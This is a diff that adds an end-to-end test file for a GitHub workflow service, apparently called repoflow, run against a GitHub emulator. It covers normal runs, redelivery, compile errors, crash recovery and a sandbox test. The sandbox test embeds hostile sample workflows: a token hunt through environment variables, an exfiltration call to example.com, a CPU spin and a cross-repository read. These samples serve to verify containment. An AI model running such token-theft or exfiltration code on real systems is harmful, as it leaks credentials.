@@ -1,0 +1,221 @@
+/**
+ * The product, end to end: `wrangler dev` plus the GitHub emulator, driven
+ * the way GitHub drives it (signed real example payloads). Each test gets its
+ * own repository on one shared stack; the restart test runs last because it
+ * restarts the service.
+ */
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { deliver } from "../support/deliver.ts";
+import { pullRequestOpened, pushTo, type Target } from "../support/payloads.ts";
+import { startStack, waitFor, WEBHOOK_SECRET, type Stack } from "../support/stack.ts";
+
+let stack: Stack;
+let nextInstallation = 7000;
+
+beforeAll(async () => {
+  stack = await startStack();
+}, 120_000);
+
+afterAll(async () => {
+  await stack?.close();
+});
+
+afterEach(() => {
+  expect(stack.emulator.violations, "requests the real GitHub API would reject").toEqual([]);
+});
+
+function newRepo(name: string, files: Record<string, string>): Target & { sha: string } {
+  const target = { fullName: `octo-org/${name}`, installationId: nextInstallation++, defaultBranch: "main" };
+  const { sha } = stack.emulator.addRepo({ ...target, files: { "README.md": `# ${name}\n`, ...files } });
+  return { ...target, sha };
+}
+
+function openPr(target: Target, number: number) {
+  stack.emulator.openPullRequest(target.fullName, { number, title: `PR ${number}`, head: `feature-${number}`, base: "main" });
+  return stack.emulator.headSha(target.fullName, `feature-${number}`);
+}
+
+const completed = (target: Target, name: string) => () =>
+  stack.emulator.checkRuns(target.fullName).find((run) => run.name === name && run.status === "completed");
+
+const GREETER = `
+import { workflow } from "repoflow";
+export default workflow({
+  name: "Greet",
+  on: { pull_request: ["opened"] },
+  async run({ event, step, github, repo }) {
+    const number = event.pull_request.number;
+    await step.do("comment", async () => {
+      await github.rest.issues.createComment({ ...repo, issue_number: number, body: "Thanks for the PR!" });
+    });
+    await step.do("label", async () => {
+      await github.rest.issues.addLabels({ ...repo, issue_number: number, labels: ["triage"] });
+    });
+    return { greeted: number };
+  },
+});
+`;
+
+describe("runs", () => {
+  it("runs pull_request.opened to a successful check run, posting the workflow's comment", async () => {
+    const repo = newRepo("greeter", { ".workflows/greet.ts": GREETER });
+    const headSha = openPr(repo, 7);
+    const sent = await deliver(stack.service.url, WEBHOOK_SECRET, "pull_request", pullRequestOpened(repo, { number: 7, headSha }));
+    expect(sent.status).toBe(202);
+
+    const run = await waitFor("the Greet check run to complete", completed(repo, "repoflow: Greet"), 60_000);
+    expect(run).toMatchObject({ head_sha: headSha, conclusion: "success" });
+    expect(run.output.summary).toContain("comment");
+    expect(run.output.summary).toContain("label");
+    expect(stack.emulator.comments(repo.fullName, 7).map((c) => c.body)).toEqual(["Thanks for the PR!"]);
+    expect(stack.emulator.labels(repo.fullName, 7)).toContain("triage");
+
+    // It went through in_progress first: created in progress, then completed.
+    const creates = stack.emulator.requests.filter((r) => r.method === "POST" && r.path === `/repos/${repo.fullName}/check-runs`);
+    expect(creates.map((r) => (r.body as { status?: string }).status)).toEqual(["in_progress"]);
+  });
+
+  it("starts no second run for a redelivered delivery", async () => {
+    const repo = newRepo("redelivery", { ".workflows/greet.ts": GREETER });
+    const headSha = openPr(repo, 3);
+    const payload = pullRequestOpened(repo, { number: 3, headSha });
+    const first = await deliver(stack.service.url, WEBHOOK_SECRET, "pull_request", payload);
+    await waitFor("the first run", completed(repo, "repoflow: Greet"), 60_000);
+    const again = await deliver(stack.service.url, WEBHOOK_SECRET, "pull_request", payload, { id: first.id });
+    expect(again).toMatchObject({ status: 202, body: { status: "duplicate" } });
+    // Give a wrongly started second run time to show itself.
+    await new Promise((r) => setTimeout(r, 3000));
+    expect(stack.emulator.checkRuns(repo.fullName).filter((r) => r.name === "repoflow: Greet")).toHaveLength(1);
+    expect(stack.emulator.comments(repo.fullName, 3)).toHaveLength(1);
+  });
+
+  it("reports a compile error as a failed check run with an annotation at the right line", async () => {
+    const broken = `import { workflow } from "repoflow";\n\nexport default workflow({\n  name: "Broken",\n  on: { push: [] },\n  async run() {\n    const x = ;\n  },\n});\n`;
+    const repo = newRepo("broken", {});
+    const before = repo.sha;
+    const { sha } = stack.emulator.commit(repo.fullName, { ".workflows/broken.ts": broken }, "Add a broken workflow");
+    const sent = await deliver(stack.service.url, WEBHOOK_SECRET, "push", pushTo(repo, { before, after: sha, paths: [".workflows/broken.ts"] }));
+    expect(sent.status).toBe(202);
+
+    const check = await waitFor("the compile check run", completed(repo, "repoflow: compile .workflows"), 60_000);
+    expect(check).toMatchObject({ head_sha: sha, conclusion: "failure" });
+    expect(check.output.annotations).toEqual([
+      expect.objectContaining({ path: ".workflows/broken.ts", start_line: 7, annotation_level: "failure" }),
+    ]);
+  });
+});
+
+describe("hostile workflow code", () => {
+  const hostile = (name: string, body: string) => `
+import { workflow } from "repoflow";
+export default workflow({
+  name: ${JSON.stringify(name)},
+  on: { issues: ["opened"] },
+  async run({ step, github, repo }) {
+    ${body}
+  },
+});
+`;
+
+  it("fails cleanly, is reported failed, and the service keeps serving", async () => {
+    const repo = newRepo("hostile", {
+      ".workflows/token.ts": hostile(
+        "Steal token",
+        `const found = await step.do("look for a token", async () => {
+          const g = globalThis as any;
+          const env = typeof g.process === "object" ? g.process.env : {};
+          return JSON.stringify({ env, keys: Object.keys(g) }).match(/gh[su]_[A-Za-z0-9]+/)?.[0] ?? null;
+        });
+        if (!found) throw new Error("no token in reach");
+        return { found };`,
+      ),
+      ".workflows/exfiltrate.ts": hostile(
+        "Exfiltrate",
+        `await step.do("call out", { retries: { limit: 0, delay: 0 } }, async () => {
+          const res = await fetch("https://example.com/collect");
+          if (!res.ok) throw new Error("blocked with " + res.status + ": " + (await res.json()).message);
+        });`,
+      ),
+      ".workflows/spin.ts": hostile(
+        "Spin",
+        `await step.do("spin forever", { retries: { limit: 0, delay: 0 } }, async () => {
+          for (;;) {}
+        });`,
+      ),
+      ".workflows/snoop.ts": hostile(
+        "Snoop",
+        `await step.do("read another repository", { retries: { limit: 0, delay: 0 } }, async () => {
+          await github.rest.repos.get({ owner: "octo-org", repo: "greeter" });
+        });`,
+      ),
+    });
+    const issue = { number: 11, title: "hello" };
+    stack.emulator.openIssue(repo.fullName, issue);
+    const payload = { action: "opened", issue: { number: 11, title: "hello", user: { login: "mallory" } }, sender: { login: "mallory" } };
+    const { retarget } = await import("../support/payloads.ts");
+    const sent = await deliver(stack.service.url, WEBHOOK_SECRET, "issues", retarget(payload, repo));
+    expect(sent.status).toBe(202);
+
+    for (const [name, reason] of [
+      ["Steal token", /no token in reach/],
+      ["Exfiltrate", /blocked with 403: repoflow: workflows may only call the GitHub API/],
+      ["Spin", /CPU|exceeded|limit/i],
+      ["Snoop", /own repository/],
+    ] as const) {
+      const run = await waitFor(`the ${name} check run`, completed(repo, `repoflow: ${name}`), 90_000);
+      expect(run.conclusion, name).toBe("failure");
+      expect(`${run.output.summary}\n${run.output.text}`, name).toMatch(reason);
+    }
+    const tokens = stack.emulator.requests.filter((r) => r.path.endsWith("/access_tokens"));
+    expect(tokens.length).toBeGreaterThan(0);
+
+    const health = await fetch(`${stack.service.url}/healthz`);
+    expect(health.status).toBe(200);
+  });
+});
+
+describe("pinned code (invariant 3) and recovery after a crash (invariant 7)", () => {
+  const versioned = (version: string) => `
+import { workflow } from "repoflow";
+export default workflow({
+  name: "Pinned",
+  on: { pull_request: ["opened"] },
+  async run({ event, step, github, repo }) {
+    const before = await step.do("before sleep", async () => ${JSON.stringify(version)});
+    await step.sleep("nap", "12 seconds");
+    const after = await step.do("after sleep", async () => ${JSON.stringify(version)});
+    await step.do("report", async () => {
+      await github.rest.issues.createComment({ ...repo, issue_number: event.pull_request.number, body: before + "/" + after });
+    });
+  },
+});
+`;
+
+  it("finishes a run sleeping through a crash on its original code while new runs take the new code", async () => {
+    const repo = newRepo("pinned", { ".workflows/pinned.ts": versioned("v1") });
+    const firstHead = openPr(repo, 1);
+    await deliver(stack.service.url, WEBHOOK_SECRET, "pull_request", pullRequestOpened(repo, { number: 1, headSha: firstHead }));
+    await waitFor(
+      "the run to reach its sleep",
+      () => stack.emulator.checkRuns(repo.fullName).find((r) => r.name === "repoflow: Pinned" && r.output.summary?.includes("nap")),
+      60_000,
+    );
+
+    await stack.service.kill();
+    const before = stack.emulator.headSha(repo.fullName);
+    const { sha } = stack.emulator.commit(repo.fullName, { ".workflows/pinned.ts": versioned("v2") }, "v2");
+    const service = await stack.restart();
+    await deliver(service.url, WEBHOOK_SECRET, "push", pushTo(repo, { before, after: sha, paths: [".workflows/pinned.ts"] }));
+
+    const secondHead = openPr(repo, 2);
+    await deliver(service.url, WEBHOOK_SECRET, "pull_request", pullRequestOpened(repo, { number: 2, headSha: secondHead }));
+
+    await waitFor("the first run's comment", () => stack.emulator.comments(repo.fullName, 1).length > 0, 90_000);
+    await waitFor("the second run's comment", () => stack.emulator.comments(repo.fullName, 2).length > 0, 90_000);
+    expect(stack.emulator.comments(repo.fullName, 1).map((c) => c.body)).toEqual(["v1/v1"]);
+    expect(stack.emulator.comments(repo.fullName, 2).map((c) => c.body)).toEqual(["v2/v2"]);
+    const pinned = stack.emulator.checkRuns(repo.fullName).filter((r) => r.name === "repoflow: Pinned");
+    await waitFor("both check runs to complete", () => pinned.every((r) => r.status === "completed") || stack.emulator.checkRuns(repo.fullName).filter((r) => r.name === "repoflow: Pinned").every((r) => r.status === "completed"), 30_000);
+    expect(stack.emulator.checkRuns(repo.fullName).filter((r) => r.name === "repoflow: Pinned").map((r) => r.conclusion)).toEqual(["success", "success"]);
+  });
+});
